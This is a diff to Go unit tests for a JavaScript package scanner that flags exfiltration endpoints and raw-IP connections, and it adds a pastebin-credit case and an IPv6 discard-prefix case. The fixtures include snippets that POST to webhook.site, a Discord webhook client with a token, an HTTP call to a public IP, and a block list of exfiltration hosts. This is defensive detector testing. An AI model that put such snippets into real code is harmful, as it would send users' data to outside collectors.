@@ -22,6 +22,7 @@ func TestExfilService(t *testing.T) {
 		{"webhook_client", map[string]string{"index.js": `const { WebhookClient } = require("discord.js"); new WebhookClient("123", "tok")`}, finding.SeverityHigh},
 		{"bare_host_option", map[string]string{"index.js": `require("https").request({ hostname: "webhook.site", path: "/0c9f", method: "POST" })`}, finding.SeverityHigh},
 		{"bare_host_in_domain_list", map[string]string{"index.js": `const blocked = ["webhook.site", "pipedream.net"]`}, finding.SeverityNone},
+		{"credit_in_text", map[string]string{"index.js": "const cow = \"# via http://pastebin.com/1AZwKrKp\\n$the_cow = <<EOC;\\n $thoughts\\nEOC\\n\""}, finding.SeverityLow},
 		{"lookalike_word", map[string]string{"index.js": `const doc = "see https://example.com/webhook.site-guide"; const p = "notpipedream.network"`}, finding.SeverityNone},
 	})
 }
@@ -30,6 +31,7 @@ func TestRawIP(t *testing.T) {
 	rt.Check(t, RawIP{}, []rt.Case{
 		{"public_ip", map[string]string{"index.js": `http.get("http://203.0.113.7:1224/p")`}, finding.SeverityMedium},
 		{"localhost", map[string]string{"index.js": `http.get("http://127.0.0.1:8080/health"); fetch("http://192.168.1.1/")`}, finding.SeverityNone},
+		{"discard_prefix", map[string]string{"index.js": `const blocks = ["100::", "::1"]; net.connect(80, "100::")`}, finding.SeverityNone},
 		{"version_string", map[string]string{"index.js": `const v = "1.2.3.4"`}, finding.SeverityNone},
 	})
 }
